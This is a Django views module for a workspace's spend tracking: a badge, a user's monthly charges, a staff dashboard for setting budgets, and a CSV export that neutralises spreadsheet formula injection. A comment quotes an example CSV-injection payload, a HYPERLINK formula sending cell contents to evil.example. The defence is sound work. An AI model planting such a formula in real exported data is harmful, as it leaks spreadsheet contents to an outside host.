"""Spend: the badge in the top bar, my month, and the staff dashboard with its CSV."""

import csv

from django.contrib import messages
from django.contrib.auth.decorators import login_required
from django.http import Http404, HttpRequest, HttpResponse
from django.shortcuts import redirect, render
from django.views.decorators.http import require_GET, require_POST

from workspace import spend
from workspace.forms import BudgetForm, SpendPeriodForm
from workspace.models import LedgerEntry


@login_required
@require_GET
def spend_badge(request: HttpRequest) -> HttpResponse:
    return render(request, "base.html#spend-badge", {"badge_loaded": True})


@login_required
@require_GET
def my_spend(request: HttpRequest) -> HttpResponse:
    charges = LedgerEntry.objects.filter(
        user=request.user, created_at__gte=spend.month_start()
    ).select_related("project", "job")[:100]
    return render(
        request, "workspace/my_spend.html", {"summary": spend.summary_for(request.user), "charges": charges}
    )


# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a project named
# =HYPERLINK("http://evil.example/?"&A1) must arrive as text, not run when the CSV is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The value, with a leading ' on text that starts like a formula, after any spaces (a spreadsheet
    that trims cells on import would still read ` =HYPERLINK(…)` as one). Numbers pass untouched (a
    negative cost is a number, not a formula)."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer whose every cell goes through csv_cell."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row) -> None:
        self._writer.writerow([csv_cell(cell) for cell in row])


def _staff_only(user) -> None:
    if not user.is_staff:
        raise Http404


def _dashboard(
    request: HttpRequest, *, budget_form: BudgetForm | None = None, status: int = 200
) -> HttpResponse:
    form = SpendPeriodForm(request.GET or None)
    context = {
        "form": form,
        "report": None,
        "budget_form": budget_form or BudgetForm(),
        "budgets": spend.budgets_overview(),
    }
    if request.GET and not form.is_valid():
        return render(request, "workspace/spend_dashboard.html", context, status=400)
    if not request.GET:
        form = SpendPeriodForm({"period": "this_month"})
        form.is_valid()
    report = spend.report(start=form.cleaned_data["start"], end=form.cleaned_data["end"])
    # Real and simulated dollars share one scale, drawn as two parts of each day's bar.
    peak = max((day["cost"] + day["simulated"] for day in report.daily), default=spend.ZERO) or 1
    bars = [
        {
            "day": d["day"],
            "cost": d["cost"],
            "simulated": d["simulated"],
            "height": float(d["cost"] / peak * 100),
            "simulated_height": float(d["simulated"] / peak * 100),
        }
        for d in report.daily
    ]
    context |= {"form": form, "report": report, "bars": bars}
    return render(request, "workspace/spend_dashboard.html", context, status=status)


@login_required
@require_GET
def spend_dashboard(request: HttpRequest) -> HttpResponse:
    _staff_only(request.user)
    return _dashboard(request)


@login_required
@require_POST
def spend_budget_set(request: HttpRequest) -> HttpResponse:
    """Set, change or remove one budget from the dashboard; errors show beside the fields."""
    _staff_only(request.user)
    form = BudgetForm(request.POST)
    if not form.is_valid():
        return _dashboard(request, budget_form=form, status=400)
    data = form.cleaned_data
    budget = spend.budget_set(
        actor=request.user, user=data["user"], project=data["project"], monthly_limit=data["monthly_limit"]
    )
    whose = data["user"] or (data["project"] and f"project {data['project']}") or "the whole workspace"
    if budget is None:
        messages.success(request, f"Removed the monthly budget for {whose}.")
    else:
        messages.success(request, f"The monthly budget for {whose} is now ${budget.monthly_limit:,.2f}.")
    return redirect("spend_dashboard")


@login_required
@require_GET
def spend_csv(request: HttpRequest) -> HttpResponse:
    _staff_only(request.user)
    form = SpendPeriodForm(request.GET or {"period": "this_month"})
    if not form.is_valid():
        errors = "; ".join(f"{field}: {' '.join(messages_)}" for field, messages_ in form.errors.items())
        return HttpResponse(f"Bad period: {errors}", status=400, content_type="text/plain")
    report = spend.report(start=form.cleaned_data["start"], end=form.cleaned_data["end"])
    response = HttpResponse(content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="atelier-spend-{report.start}-{report.end}.csv"'
    writer = _SafeWriter(csv.writer(response))
    # cost_usd is real money only; demo money has its own column, never added to it.
    writer.writerow(["section", "name", "cost_usd", "images", "calls", "tokens", "simulated_cost_usd"])
    sections = [
        ("user", report.by_user, "user__username"),
        ("project", report.by_project, "project__name"),
        ("model", report.by_model, "model"),
    ]
    for section, rows, name in sections:
        for row in rows:
            writer.writerow(
                [
                    section,
                    row[name],
                    row["cost"],
                    row["images"],
                    row["calls"],
                    row["tokens"],
                    row["simulated_cost"],
                ]
            )
    for day in report.daily:
        writer.writerow(["day", day["day"].isoformat(), day["cost"], "", "", "", day["simulated"]])
    t = report.totals
    writer.writerow(["total", "", t["cost"], t["images"], t["calls"], t["tokens"], t["simulated_cost"]])
    return response
